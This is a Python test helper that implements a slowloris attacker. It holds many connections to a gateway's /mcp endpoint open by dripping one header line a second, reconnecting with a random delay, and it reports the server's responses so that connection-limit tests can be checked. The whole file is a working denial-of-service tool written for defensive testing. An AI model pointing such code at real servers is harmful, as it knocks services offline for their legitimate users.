"""A slowloris attacker for tests/test_connection_limits.py, run as a process of its own so its
sockets and event loop do not share the measured client's.

    python tests/slowloris.py HOST PORT SOURCE COUNT

COUNT connections from the address SOURCE, each sending a request head one header line a second
and never ending it. A connection the server closes (refused at once, or timed out) is opened again
after 1-3 s (random: the reconnects of hundreds of sockets spread out, as they do in the wild), as
an attacker keeping its sockets does. Prints `ready` once every connection
was opened once; when its stdin closes, stops and prints what it saw as one JSON line: answers by
status code, connections reset, connects that failed, the most connections held open at once.
"""

from __future__ import annotations

import asyncio
import collections
import json
import random
import sys

DRIP_SECONDS = 1.0
PAUSE_SECONDS = (1.0, 3.0)
HEAD = b"POST /mcp HTTP/1.1\r\nHost: gateway\r\ncontent-type: application/json\r\n"


class Attack:
    def __init__(self, host: str, port: int, source: str) -> None:
        self.host, self.port, self.source = host, port, source
        self.seen: collections.Counter[str] = collections.Counter()
        self.holding = 0
        self.most_held = 0
        self.stop = asyncio.Event()

    async def one(self, first: asyncio.Event) -> None:
        """One attacking connection, opened again each time the server closes it."""
        while not self.stop.is_set():
            try:
                reader, writer = await asyncio.open_connection(self.host, self.port, local_addr=(self.source, 0))
            except OSError:
                self.seen["connect_failed"] += 1
                first.set()
            else:
                first.set()
                await self._hold(reader, writer)
            await self._pause(random.uniform(*PAUSE_SECONDS))

    async def _hold(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.holding += 1
        self.most_held = max(self.most_held, self.holding)
        answered = b""
        try:
            writer.write(HEAD)
            while not self.stop.is_set():
                try:
                    data = await asyncio.wait_for(reader.read(65536), DRIP_SECONDS)
                except TimeoutError:
                    writer.write(b"X-Slow: 1\r\n")
                    continue
                if not data:
                    break
                answered += data
            if answered.startswith(b"HTTP/1.1 "):
                self.seen[answered[9:12].decode()] += 1
            elif not self.stop.is_set():
                self.seen["closed_without_answer"] += 1
        except OSError:
            self.seen["reset"] += 1
        finally:
            self.holding -= 1
            writer.close()

    async def _pause(self, seconds: float) -> None:
        try:
            await asyncio.wait_for(self.stop.wait(), seconds)
        except TimeoutError:
            pass


async def main(host: str, port: int, source: str, count: int) -> None:
    attack = Attack(host, port, source)
    firsts = [asyncio.Event() for _ in range(count)]
    tasks = [asyncio.create_task(attack.one(first)) for first in firsts]
    await asyncio.gather(*(first.wait() for first in firsts))  # every connection opened once
    print("ready", flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    attack.stop.set()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(json.dumps({"seen": dict(attack.seen), "most_held": attack.most_held}), flush=True)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])))
